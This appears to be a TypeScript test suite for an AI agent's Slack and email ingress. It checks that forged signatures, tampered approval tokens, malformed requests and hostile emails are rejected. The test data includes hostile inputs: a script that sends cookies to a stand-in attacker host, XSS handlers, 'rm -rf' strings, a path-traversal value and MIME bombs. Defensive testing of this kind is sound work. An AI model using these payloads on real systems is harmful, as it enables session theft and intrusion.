import { randomBytes } from 'node:crypto';
import { CreateBucketCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import type { SQSClient } from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mintReplyToken } from '../../events/email-thread.ts';
import { APPROVAL_TOKEN_PURPOSE, EMAIL_REPLY_TOKEN_PURPOSE } from '../../events/inbound-event.ts';
import { signToken } from '../../events/signed-token.ts';
import { createSlackApp } from '../../functions/slack/app.ts';
import { createEmailBatchHandler } from '../../functions/email/email-batch.ts';
import { parseInboundEmail, type ParseInboundEmailInput } from '../../functions/email/email.ts';
import { silentLog } from '../../functions/shared/log.ts';
import { MOTO_CLIENT_CONFIG, startMoto, type MotoServer } from '../../testkit/moto.ts';
import { mime, receipt, sesMail, sesRecord } from '../../testkit/email-fixtures.ts';
import {
  APPROVAL_SECRET,
  REPLY_SECRET,
  createFifoQueue,
  emailConfig,
  form,
  queueDepth,
  signSlack,
  slackConfig,
  slackPost,
  motoEventQueue,
  sqsClient,
} from '../../testkit/ingress.ts';

const NOW = Math.floor(Date.now() / 1000);
const MAX_BODY = 4096;

const mention = JSON.stringify({
  type: 'event_callback',
  team_id: 'T0TEAM',
  event_id: 'Ev0BAD',
  authorizations: [{ user_id: 'U0BOT', is_bot: true }],
  event: { type: 'app_mention', user: 'U0ANA', text: '<@U0BOT> hi', ts: '1712345678.000100', channel: 'C0GENERAL' },
});
const eventWith = (event: Record<string, unknown>) => JSON.stringify({ type: 'event_callback', team_id: 'T0TEAM', event });
const click = (value: string | undefined) =>
  form({
    payload: JSON.stringify({
      type: 'block_actions',
      user: { id: 'U0ANA' },
      team: { id: 'T0TEAM' },
      channel: { id: 'C0GENERAL' },
      actions: [{ action_id: 'approval:approve', ...(value === undefined ? {} : { value }) }],
    }),
  });
const approvalToken = (secret: string, options: { expiresInSeconds?: number; purpose?: string } = {}) =>
  signToken({ requestId: 'req-1', conversationId: 'slack:T0TEAM:C0GENERAL:1712345678.000100' }, secret, {
    purpose: options.purpose ?? APPROVAL_TOKEN_PURPOSE,
    ...(options.expiresInSeconds === undefined ? {} : { expiresInSeconds: options.expiresInSeconds }),
  });
const command = (fields: Record<string, string>) =>
  form({
    team_id: 'T0TEAM',
    channel_id: 'C0GENERAL',
    user_id: 'U0ANA',
    command: '/agent',
    text: 'hi',
    response_url: 'https://hooks.slack.com/c/1',
    trigger_id: '1.2.3',
    ...fields,
  });
const tamperedToken = () => {
  const [, signature] = approvalToken(APPROVAL_SECRET).split('.');
  const claims = Buffer.from(
    JSON.stringify({ requestId: 'req-666', conversationId: 'slack:T0TEAM:C0OTHER:1.1', purpose: 'approval', expiresAt: NOW + 999 }),
  ).toString('base64url');
  return `${claims}.${signature}`;
};
const json = { 'content-type': 'application/json' };

interface SlackCase {
  name: string;
  path: string;
  init: () => RequestInit;
  status: number;
  reason: string | RegExp;
}

const slackCases: SlackCase[] = [
  {
    name: 'signature made with another secret',
    path: '/slack/events',
    init: () => ({ method: 'POST', body: mention, headers: { ...json, ...signSlack(mention, { secret: 'forged' }) } }),
    status: 401,
    reason: 'X-Slack-Signature does not match the request',
  },
  {
    name: 'body changed after signing',
    path: '/slack/events',
    init: () => ({ method: 'POST', body: mention.replace('hi', 'rm -rf'), headers: { ...json, ...signSlack(mention) } }),
    status: 401,
    reason: 'X-Slack-Signature does not match the request',
  },
  {
    name: 'signature header missing',
    path: '/slack/events',
    init: () => ({ method: 'POST', body: mention, headers: { ...json, 'x-slack-request-timestamp': String(NOW) } }),
    status: 401,
    reason: 'X-Slack-Signature header is missing',
  },
  {
    name: 'timestamp header missing',
    path: '/slack/events',
    init: () => ({
      method: 'POST',
      body: mention,
      headers: { ...json, 'x-slack-signature': signSlack(mention)['x-slack-signature'] as string },
    }),
    status: 401,
    reason: 'X-Slack-Request-Timestamp header is missing',
  },
  {
    name: 'both headers missing',
    path: '/slack/commands',
    init: () => ({ method: 'POST', body: command({}) }),
    status: 401,
    reason: 'X-Slack-Request-Timestamp header is missing',
  },
  {
    name: 'stale timestamp, correctly signed',
    path: '/slack/events',
    init: () => slackPost(mention, { timestamp: NOW - 600 }),
    status: 401,
    reason: /request timestamp is 6\d\d s old, more than 300 s/,
  },
  {
    name: 'future timestamp, correctly signed',
    path: '/slack/events',
    init: () => slackPost(mention, { timestamp: NOW + 600 }),
    status: 401,
    reason: /request timestamp is \d+ s in the future, more than 300 s/,
  },
  {
    name: 'timestamp that is not a number',
    path: '/slack/events',
    init: () => ({
      method: 'POST',
      body: mention,
      headers: { ...json, 'x-slack-request-timestamp': 'yesterday', 'x-slack-signature': 'v0=00' },
    }),
    status: 401,
    reason: 'X-Slack-Request-Timestamp is not a Unix time in seconds',
  },
  {
    name: 'signature of another version',
    path: '/slack/events',
    init: () => ({
      method: 'POST',
      body: mention,
      headers: { ...json, ...signSlack(mention), 'x-slack-signature': signSlack(mention)['x-slack-signature']!.replace('v0=', 'v1=') },
    }),
    status: 401,
    reason: 'X-Slack-Signature does not match the request',
  },
  {
    name: 'truncated signature',
    path: '/slack/events',
    init: () => ({
      method: 'POST',
      body: mention,
      headers: { ...json, ...signSlack(mention), 'x-slack-signature': signSlack(mention)['x-slack-signature']!.slice(0, 20) },
    }),
    status: 401,
    reason: 'X-Slack-Signature does not match the request',
  },
  {
    name: 'signature in upper-case hex',
    path: '/slack/events',
    init: () => ({
      method: 'POST',
      body: mention,
      headers: {
        ...json,
        ...signSlack(mention),
        'x-slack-signature': `v0=${signSlack(mention)['x-slack-signature']!.slice(3).toUpperCase()}`,
      },
    }),
    status: 401,
    reason: 'X-Slack-Signature does not match the request',
  },
  {
    name: 'GET on the events route',
    path: '/slack/events',
    init: () => ({ method: 'GET' }),
    status: 405,
    reason: 'GET is not allowed on /slack/events; Slack sends POST',
  },
  {
    name: 'PUT on the commands route',
    path: '/slack/commands',
    init: () => ({ method: 'PUT', body: command({}) }),
    status: 405,
    reason: 'PUT is not allowed on /slack/commands; Slack sends POST',
  },
  {
    name: 'unknown Slack route',
    path: '/slack/options',
    init: () => slackPost('{}'),
    status: 404,
    reason: 'no route for POST /slack/options',
  },
  { name: 'POST to health', path: '/health', init: () => ({ method: 'POST' }), status: 404, reason: 'no route for POST /health' },
  {
    name: 'malformed JSON',
    path: '/slack/events',
    init: () => slackPost('{"type": "event_callback",'),
    status: 400,
    reason: /^request body is not valid JSON/,
  },
  {
    name: 'JSON that is not an object',
    path: '/slack/events',
    init: () => slackPost('["event_callback"]'),
    status: 400,
    reason: /^envelope: /,
  },
  {
    name: 'event_callback without an event',
    path: '/slack/events',
    init: () => slackPost(JSON.stringify({ type: 'event_callback', team_id: 'T0TEAM' })),
    status: 400,
    reason: /^envelope\.event: /,
  },
  {
    name: 'mention without a channel',
    path: '/slack/events',
    init: () => slackPost(eventWith({ type: 'app_mention', user: 'U0ANA', text: 'hi', ts: '1712345678.000100' })),
    status: 400,
    reason: /^event\.channel: /,
  },
  {
    name: 'mention with a ts that is not a Slack ts',
    path: '/slack/events',
    init: () => slackPost(eventWith({ type: 'app_mention', user: 'U0ANA', text: 'hi', ts: '../../etc', channel: 'C1' })),
    status: 400,
    reason: 'event.ts: expected a Slack ts such as 1712345678.000100',
  },
  {
    name: 'url_verification without a challenge',
    path: '/slack/events',
    init: () => slackPost(JSON.stringify({ type: 'url_verification' })),
    status: 400,
    reason: /^url_verification\.challenge: /,
  },
  {
    name: 'oversized body, declared',
    path: '/slack/events',
    init: () => ({
      ...slackPost('x'.repeat(MAX_BODY + 1)),
      headers: { ...signSlack('x'.repeat(MAX_BODY + 1)), 'content-length': String(MAX_BODY + 1) },
    }),
    status: 413,
    reason: `request body exceeds the limit of ${MAX_BODY} bytes`,
  },
  {
    name: 'oversized body, streamed without a length',
    path: '/slack/events',
    init: () => slackPost(JSON.stringify({ type: 'event_callback', padding: 'x'.repeat(MAX_BODY * 4) })),
    status: 413,
    reason: `request body exceeds the limit of ${MAX_BODY} bytes`,
  },
  {
    name: 'body that is not UTF-8',
    path: '/slack/events',
    init: () => ({ method: 'POST', body: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]), headers: { ...json, ...signSlack('{\uFFFD\uFFFD}') } }),
    status: 400,
    reason: 'request body is not valid UTF-8',
  },
  {
    name: 'interaction without payload',
    path: '/slack/interactivity',
    init: () => slackPost(form({ token: 'x' }), { form: true }),
    status: 400,
    reason: 'form field payload is missing',
  },
  {
    name: 'interaction with a broken percent-escape',
    path: '/slack/interactivity',
    init: () => slackPost('payload=%7B%22type%E0%A4%A', { form: true }),
    status: 400,
    reason: /^form body is not URL-encoded: bad escape/,
  },
  {
    name: 'interaction payload that is not JSON',
    path: '/slack/interactivity',
    init: () => slackPost(form({ payload: '{type: block_actions' }), { form: true }),
    status: 400,
    reason: /^form field payload is not valid JSON/,
  },
  {
    name: 'interaction sent as JSON instead of a form',
    path: '/slack/interactivity',
    init: () => slackPost('{"payload":{}}'),
    status: 400,
    reason: /has no name=value$/,
  },
  {
    name: 'interaction with payload twice',
    path: '/slack/interactivity',
    init: () => slackPost('payload=%7B%7D&payload=%7B%7D', { form: true }),
    status: 400,
    reason: 'form field payload appears more than once',
  },
  {
    name: 'approval token signed with another secret',
    path: '/slack/interactivity',
    init: () => slackPost(click(approvalToken('not-the-approval-secret')), { form: true }),
    status: 400,
    reason: 'approval token rejected: token signature does not match',
  },
  {
    name: 'approval token whose claims were edited',
    path: '/slack/interactivity',
    init: () => slackPost(click(tamperedToken()), { form: true }),
    status: 400,
    reason: 'approval token rejected: token signature does not match',
  },
  {
    name: 'expired approval token',
    path: '/slack/interactivity',
    init: () => slackPost(click(approvalToken(APPROVAL_SECRET, { expiresInSeconds: -60 })), { form: true }),
    status: 400,
    reason: 'approval token rejected: token has expired',
  },
  {
    name: 'approval token minted for email replies',
    path: '/slack/interactivity',
    init: () => slackPost(click(approvalToken(APPROVAL_SECRET, { purpose: EMAIL_REPLY_TOKEN_PURPOSE })), { form: true }),
    status: 400,
    reason: 'approval token rejected: token is for "email-reply", not "approval"',
  },
  {
    name: 'approval token that is not a token',
    path: '/slack/interactivity',
    init: () => slackPost(click('approve-please'), { form: true }),
    status: 400,
    reason: 'approval token rejected: token is malformed',
  },
  {
    name: 'approval button without a value',
    path: '/slack/interactivity',
    init: () => slackPost(click(undefined), { form: true }),
    status: 400,
    reason: 'approval button carries no token',
  },
  {
    name: 'slash command without trigger_id',
    path: '/slack/commands',
    init: () => slackPost(command({ trigger_id: '' }), { form: true }),
    status: 400,
    reason: /^command\.trigger_id: /,
  },
  {
    name: 'slash command with a response_url that is not a URL',
    path: '/slack/commands',
    init: () => slackPost(command({ response_url: 'javascript:alert(1)' }), { form: true }),
    status: 400,
    reason: /^command\.response_url: /,
  },
  {
    name: 'slash command with an empty body',
    path: '/slack/commands',
    init: () => slackPost('', { form: true }),
    status: 400,
    reason: 'form body is empty',
  },
  {
    name: 'unknown event type (acknowledged, dropped)',
    path: '/slack/events',
    init: () => slackPost(eventWith({ type: 'team_join', user: { id: 'U0NEW' } })),
    status: 200,
    reason: 'dropped: event type team_join is not subscribed',
  },
  {
    name: 'unknown envelope type (acknowledged, dropped)',
    path: '/slack/events',
    init: () => slackPost(JSON.stringify({ type: 'app_uninstalled_everywhere' })),
    status: 200,
    reason: 'dropped: envelope type app_uninstalled_everywhere is not handled',
  },
  {
    name: 'unknown interaction type (acknowledged, dropped)',
    path: '/slack/interactivity',
    init: () => slackPost(form({ payload: JSON.stringify({ type: 'view_submission', user: { id: 'U0ANA' } }) }), { form: true }),
    status: 200,
    reason: 'dropped: interaction type view_submission is not handled',
  },
];

let moto: MotoServer;
let sqs: SQSClient;
let s3: S3Client;
let queueUrl: string;
let app: ReturnType<typeof createSlackApp>;

beforeAll(async () => {
  moto = await startMoto();
  sqs = sqsClient(moto.endpoint);
  s3 = new S3Client({ ...MOTO_CLIENT_CONFIG, endpoint: moto.endpoint, forcePathStyle: true });
  queueUrl = await createFifoQueue(sqs, 'bad');
  app = createSlackApp({
    config: slackConfig(queueUrl, { INGRESS_MAX_BODY_BYTES: MAX_BODY }),
    queue: motoEventQueue(queueUrl),
    log: silentLog,
  });
});
afterAll(async () => {
  sqs?.destroy();
  s3?.destroy();
  await moto?.stop();
});

describe('bad Slack requests', () => {
  it.each(slackCases)('$name → $status', async ({ path, init, status, reason }) => {
    const response = await app.request(path, init());
    expect(response.status).toBe(status);
    const said = status === 200 ? response.headers.get('x-ingress-outcome') : ((await response.json()) as { error: string }).error;
    if (typeof reason === 'string') expect(said).toBe(reason);
    else expect(said).toMatch(reason);
  });
});

const attachmentsBomb = () => {
  const parts = Array.from(
    { length: 101 },
    (_, index) =>
      `--wide\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="part${index}.bin"\r\n\r\nAAAA\r\n`,
  );
  return `Content-Type: multipart/mixed; boundary="wide"\r\n\r\n--wide\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n${parts.join('')}--wide--`;
};
const nestingBomb = () => {
  let part = 'Content-Type: text/plain\r\n\r\nboom\r\n';
  for (let depth = 0; depth < 60; depth++)
    part = `Content-Type: multipart/mixed; boundary="b${depth}"\r\n\r\n--b${depth}\r\n${part}--b${depth}--\r\n`;
  return part;
};
const oldStyleReplyToken = () =>
  signToken({ conversationId: 'email:root@mail.example.com' }, REPLY_SECRET, { purpose: EMAIL_REPLY_TOKEN_PURPOSE });

interface EmailCase {
  name: string;
  input: () => Pick<ParseInboundEmailInput, 'raw' | 'receipt'>;
  reason: string | RegExp;
}

const emailCases: EmailCase[] = [
  {
    name: 'spam verdict FAIL',
    input: () => ({ raw: mime(), receipt: receipt({ spamVerdict: { status: 'FAIL' } }) }),
    reason: 'spam verdict is FAIL',
  },
  {
    name: 'virus verdict FAIL',
    input: () => ({ raw: mime(), receipt: receipt({ virusVerdict: { status: 'FAIL' } }) }),
    reason: 'virus verdict is FAIL',
  },
  {
    name: 'SPF and DKIM both FAIL',
    input: () => ({
      raw: mime(),
      receipt: receipt({ spfVerdict: { status: 'FAIL' }, dkimVerdict: { status: 'FAIL' }, dmarcVerdict: { status: 'GRAY' } }),
    }),
    reason: 'From domain example.com is not authenticated: DMARC GRAY, SPF FAIL for example.com, DKIM FAIL',
  },
  {
    name: 'SPF GRAY and no DKIM verdict',
    input: () => ({ raw: mime(), receipt: receipt({ spfVerdict: { status: 'GRAY' }, dkimVerdict: undefined, dmarcVerdict: undefined }) }),
    reason: 'From domain example.com is not authenticated: DMARC missing, SPF GRAY for example.com, DKIM missing',
  },
  {
    name: 'sender not on the allow-list',
    input: () => ({ raw: mime({ from: 'Mallory <mallory@evil.example>' }), receipt: receipt() }),
    reason: 'sender mallory@evil.example is not in EMAIL_ALLOWED_SENDERS',
  },
  {
    name: 'look-alike of an allowed domain',
    input: () => ({ raw: mime({ from: 'x@evil.trusted.example' }), receipt: receipt() }),
    reason: 'sender x@evil.trusted.example is not in EMAIL_ALLOWED_SENDERS',
  },
  {
    name: 'forged From with failing DKIM (SPF passes for the envelope domain)',
    input: () => ({
      raw: mime({ from: 'Ana <ana@example.com>' }),
      receipt: receipt({ dkimVerdict: { status: 'FAIL' }, dmarcVerdict: { status: 'FAIL' } }),
    }),
    reason: 'DMARC verdict is FAIL',
  },
  {
    name: 'missing Message-ID',
    input: () => ({ raw: mime({ messageId: null }), receipt: receipt() }),
    reason: 'message has no Message-ID header',
  },
  {
    name: 'huge header',
    input: () => ({ raw: mime({ extraHeaders: [`X-Padding: ${'A'.repeat(200_000)}`] }), receipt: receipt() }),
    reason: /^message could not be parsed: Maximum header size of \d+ bytes exceeded/,
  },
  {
    name: 'MIME nesting bomb',
    input: () => ({ raw: mime({ rawBodyPart: nestingBomb() }), receipt: receipt() }),
    reason: /^message could not be parsed: Maximum MIME nesting depth of \d+ levels exceeded/,
  },
  {
    name: 'a hundred and one attachments',
    input: () => ({ raw: mime({ rawBodyPart: attachmentsBomb() }), receipt: receipt() }),
    reason: 'message has 101 attachments, over 100',
  },
  {
    name: 'non-UTF-8 garbage instead of a message',
    input: () => ({ raw: new Uint8Array(randomBytes(4000)), receipt: receipt() }),
    reason: 'message has 0 From headers, not one',
  },
  {
    name: 'binary garbage in a UTF-8 text body',
    input: () => ({
      raw: Buffer.concat([Buffer.from(mime({ rawBodyPart: 'Content-Type: text/plain; charset=utf-8\r\n\r\n' })), randomBytes(3000)]),
      receipt: receipt(),
    }),
    reason: 'body is not readable text (binary or invalid UTF-8)',
  },
  {
    name: 'HTML-only body with a script',
    input: () => ({
      raw: mime({
        rawBodyPart:
          'Content-Type: text/html; charset=utf-8\r\n\r\n<p>Invoice</p><script>fetch("https://evil.example/?"+document.cookie)</script>',
      }),
      receipt: receipt(),
    }),
    reason: 'HTML body contains active content (script, handlers or frames)',
  },
  {
    name: 'HTML-only body with an onerror handler',
    input: () => ({ raw: mime({ rawBodyPart: 'Content-Type: text/html\r\n\r\n<img src=x onerror="alert(1)">' }), receipt: receipt() }),
    reason: 'HTML body contains active content (script, handlers or frames)',
  },
  {
    name: 'raw message over the size limit',
    input: () => ({ raw: mime({ body: 'x'.repeat(1024 * 1024) }), receipt: receipt() }),
    reason: /^message is \d+ bytes, over the limit of 1048576$/,
  },
  {
    name: 'recipient that names no agent',
    input: () => ({ raw: mime(), receipt: receipt({ recipients: ['"rm -rf"@agents.example.com'] }) }),
    reason: 'no recipient names an agent (expected agent@ or agent+token@)',
  },
  {
    name: 'reply token signed with another secret',
    input: () => ({ raw: mime(), receipt: receipt({ recipients: [`assistant+${mintReplyToken('forged').token}@agents.example.com`] }) }),
    reason: 'reply token rejected: reply token signature does not match',
  },
  {
    name: 'reply token in the old, long signed format',
    input: () => ({ raw: mime(), receipt: receipt({ recipients: [`assistant+${oldStyleReplyToken()}@agents.example.com`] }) }),
    reason: 'reply token rejected: reply token is malformed',
  },
  {
    name: 'From header that is a group',
    input: () => ({ raw: mime({ from: 'Undisclosed: ana@example.com, bob@example.com;' }), receipt: receipt() }),
    reason: 'From is a group, not one address',
  },
  {
    name: 'neither text nor subject',
    input: () => ({ raw: mime({ subject: '', body: '> only a quote' }), receipt: receipt() }),
    reason: 'message has neither text nor subject',
  },
];

describe('hostile emails', () => {
  it.each(emailCases)('$name is rejected', async ({ input, reason }) => {
    const { raw, receipt: caseReceipt } = input();
    const result = await parseInboundEmail({
      raw,
      receipt: caseReceipt,
      mail: sesMail(raw),
      s3Key: 'inbound/hostile',
      config: emailConfig(queueUrl),
    });
    expect(result).toHaveProperty('rejected');
    const said = 'rejected' in result ? result.rejected : '';
    if (typeof reason === 'string') expect(said).toBe(reason);
    else expect(said).toMatch(reason);
  });

  it('are dropped and logged by the SQS-triggered handler, never retried', async () => {
    const bucket = 'hostile-mail';
    await s3.send(new CreateBucketCommand({ Bucket: bucket }));
    const records = await Promise.all(
      emailCases.map(async (emailCase, index) => {
        const { raw, receipt: caseReceipt } = emailCase.input();
        const key = `inbound/hostile-${index}`;
        await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: raw }));
        return sesRecord({ bucket, key, receipt: caseReceipt, raw, sqsMessageId: `record-${index}` });
      }),
    );
    const logged: Record<string, unknown>[] = [];
    const handler = createEmailBatchHandler({
      config: emailConfig(queueUrl),
      s3,
      queue: motoEventQueue(queueUrl),
      log: (line) => logged.push(line),
    });
    const response = await handler({ Records: records });
    expect(response.batchItemFailures).toEqual([]);
    expect(logged.filter((line) => line.msg === 'email rejected')).toHaveLength(emailCases.length);
  });
});

describe('after every bad request', () => {
  it('the queue is still empty', async () => {
    expect(await queueDepth(sqs, queueUrl)).toBe(0);
  });
});
